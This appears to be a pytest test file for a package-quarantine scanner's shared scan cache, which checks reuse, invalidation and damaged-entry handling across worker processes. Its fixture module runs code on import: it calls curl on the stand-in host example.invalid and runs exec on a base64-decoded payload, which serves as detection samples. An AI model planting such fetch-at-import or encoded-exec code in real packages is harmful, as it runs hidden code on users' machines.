"""Scans shared by the inspection worker processes: reused only for the same bytes, name and
rules; a damaged entry or database is a miss, never an error or a different verdict."""

import asyncio
import gc
import sqlite3
from pathlib import Path

import pytest

from quarantine.inspect import member_store, scan_codec, worker
from quarantine.inspect.archive.reader import Limits
from quarantine.inspect.check import inspect_alone
from quarantine.inspect.member_cache import MemberCache
from quarantine.inspect.member_store import MemberStore
from quarantine.inspect.pool import InspectionPool
from quarantine.inspect.rules.content import scan_python
from quarantine.inspect.rules.import_collect import import_note
from quarantine.inspect.rules.import_source import scan_module
from quarantine.inspect.worker import InspectTask, Outcome, run_inspection
from support.dists import build_wheel

RUNS_AT_IMPORT = (
    "import subprocess\nimport base64\n"
    "def boot():\n    subprocess.Popen(['curl', 'https://example.invalid/x.sh'])\n"
    "boot()\nexec(base64.b64decode('cHJpbnQoJ2hpJyk='))\n"
)
RELAY = "from ._boot import boot\nboot()\n"
MODULES = {
    "demo/__init__.py": RELAY,
    "demo/_boot.py": RUNS_AT_IMPORT,
    "demo/plain.py": "x = 1\n",
}
NAME, MODULE = "demo/_boot.py", "demo._boot"
LIMIT = 1024 * 1024


def _scan(cache: MemberCache, source: str = RUNS_AT_IMPORT, name: str = NAME) -> object:
    return cache.scan_module(name, source.encode(), MODULE, LIMIT, False)


def test_a_scan_stored_by_one_process_is_reused_by_another(tmp_path: Path) -> None:
    first = MemberCache(store=MemberStore(tmp_path / "scans.db"))
    scanned = _scan(first)
    first.flush()
    second = MemberCache(store=MemberStore(tmp_path / "scans.db"))  # as another process
    assert _scan(second) == scanned
    assert second.scanned == 0 and first.scanned == 1
    assert scanned == scan_module(NAME, RUNS_AT_IMPORT.encode(), MODULE, max_parse_bytes=LIMIT)


def test_findings_of_other_sources_are_shared_too(tmp_path: Path) -> None:
    source = b"import base64\nexec(base64.b64decode('cHJpbnQoJ2hpJyk='))\n"
    first = MemberCache(store=MemberStore(tmp_path / "scans.db"))
    found = first.scan("setup.py", source, install_time=True, max_parse_bytes=LIMIT)
    first.flush()
    second = MemberCache(store=MemberStore(tmp_path / "scans.db"))
    assert second.scan("setup.py", source, install_time=True, max_parse_bytes=LIMIT) == found
    assert second.scanned == 0
    assert found == scan_python("setup.py", source, install_time=True, max_parse_bytes=LIMIT)
    assert {f.rule for f in found} == {"exec-encoded-payload"}


def test_other_bytes_names_limits_or_rules_are_misses(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    first = MemberCache(store=MemberStore(tmp_path / "scans.db"))
    _scan(first)
    first.flush()
    second = MemberCache(store=MemberStore(tmp_path / "scans.db"))
    _scan(second, RUNS_AT_IMPORT + "\n")
    _scan(second, name="demo/other.py")
    second.scan_module(NAME, RUNS_AT_IMPORT.encode(), MODULE, LIMIT // 2, False)
    second.scan_module(NAME, RUNS_AT_IMPORT.encode(), MODULE, LIMIT, True)
    assert second.scanned == 4
    monkeypatch.setattr(member_store, "rules_version", lambda: "a rule changed")
    third = MemberCache(store=MemberStore(tmp_path / "scans.db"))
    _scan(third)
    assert third.scanned == 1


def test_a_damaged_entry_is_scanned_again_and_replaced(tmp_path: Path) -> None:
    path = tmp_path / "scans.db"
    first = MemberCache(store=MemberStore(path))
    scanned = _scan(first)
    first.flush()
    with sqlite3.connect(path) as db:  # a "clean" entry that is not what encode wrote
        db.execute("UPDATE scans SET value = ?", ('{"findings": [], "facts": 1}',))
    second = MemberCache(store=MemberStore(path))
    assert _scan(second) == scanned
    assert second.scanned == 1
    second.flush()
    third = MemberCache(store=MemberStore(path))
    assert _scan(third) == scanned and third.scanned == 0


@pytest.mark.parametrize(
    "entry",
    [
        "not json",
        "[]",
        '{"findings": [["r", "no such severity", "m", null, null]], "facts": null, "signals": []}',
        '{"findings": [], "facts": null, "signals": [["x", "1"]]}',
        "[" * 100_000,
    ],
)
def test_entries_that_do_not_read_back_are_refused(entry: str) -> None:
    with pytest.raises(ValueError):
        scan_codec.decode(entry)


def test_a_file_that_is_not_a_database_is_started_afresh(tmp_path: Path) -> None:
    path = tmp_path / "scans.db"
    path.write_bytes(b"garbage " * 1000)
    cache = MemberCache(store=MemberStore(path))
    scanned = _scan(cache)
    cache.flush()
    again = MemberCache(store=MemberStore(path))
    assert _scan(again) == scanned and again.scanned == 0


def test_a_store_that_cannot_be_opened_only_costs_a_scan(tmp_path: Path) -> None:
    blocker = tmp_path / "a file"
    blocker.write_text("")
    cache = MemberCache(store=MemberStore(blocker / "scans.db"))  # under a file: no folder
    assert _scan(cache) == _scan(MemberCache())
    cache.flush()
    assert cache.scanned == 1


def test_the_store_is_bounded(tmp_path: Path) -> None:
    store = MemberStore(tmp_path / "scans.db", max_entries=20)
    cache = MemberCache(store=store)
    for number in range(60):
        _scan(cache, f"{RUNS_AT_IMPORT}\nn = {number}\n")
        cache.flush()
    with sqlite3.connect(tmp_path / "scans.db") as db:
        (count,) = db.execute("SELECT COUNT(*) FROM scans").fetchone()
    assert count <= 20


def test_the_collector_is_back_on_after_a_scan_even_of_a_broken_source() -> None:
    assert gc.isenabled()
    scan_python("x.py", b"exec(x)\n")
    scan_python("y.py", b"exec(\n")
    scan_module("z.py", b"import os\nos.system(\n", "z", max_parse_bytes=LIMIT)
    assert gc.isenabled()
    gc.disable()
    try:
        scan_python("x.py", b"exec(x)\n")
        assert not gc.isenabled()  # left as it was found
    finally:
        gc.enable()


def _note_store_use(task: InspectTask) -> Outcome:
    """Inspect, then note how many members this worker process scanned itself."""
    outcome = run_inspection(task)
    (task.path.parent / f"{task.filename}.scanned").write_text(str(worker._cache.scanned))
    return outcome


def test_a_sibling_wheel_reuses_what_another_worker_process_scanned(tmp_path: Path) -> None:
    wheels = [
        build_wheel("demo", "1.0", modules=MODULES, tag="cp312-cp312-manylinux_2_28_x86_64"),
        build_wheel("demo", "1.0", modules=MODULES, tag="cp312-cp312-macosx_11_0_arm64"),
    ]
    for wheel in wheels:
        (tmp_path / wheel.filename).write_bytes(wheel.data)
    found = []
    for wheel in wheels:  # one pool after the other: two worker processes
        pool = InspectionPool(1, work=_note_store_use, shared_cache=tmp_path / "scans.db")
        try:
            path = tmp_path / wheel.filename
            found.append(asyncio.run(pool.inspect_alone(path, wheel.filename, Limits())))
        finally:
            pool.close()
    scanned = [int((tmp_path / f"{w.filename}.scanned").read_text()) for w in wheels]
    assert scanned[0] >= 3 and scanned[1] == 0
    for wheel, inspected in zip(wheels, found, strict=True):
        assert inspected == inspect_alone(tmp_path / wheel.filename, wheel.filename)
    rules = {f.rule for f in found[1].findings}
    assert "exec-encoded-payload" in rules


def test_what_a_source_imports_by_name_is_shared(tmp_path: Path) -> None:
    source = b"from .tests import helpers\nimport importlib\nimportlib.import_module('x.test_y')\n"
    first = MemberCache(store=MemberStore(tmp_path / "scans.db"))
    noted = first.import_note(source)
    first.flush()
    store = MemberStore(tmp_path / "scans.db")
    assert MemberCache(store=store).import_note(source) == noted == import_note(source)
    assert store.hits == 1
    assert noted[0] >= {"tests", "helpers", "test_y"}
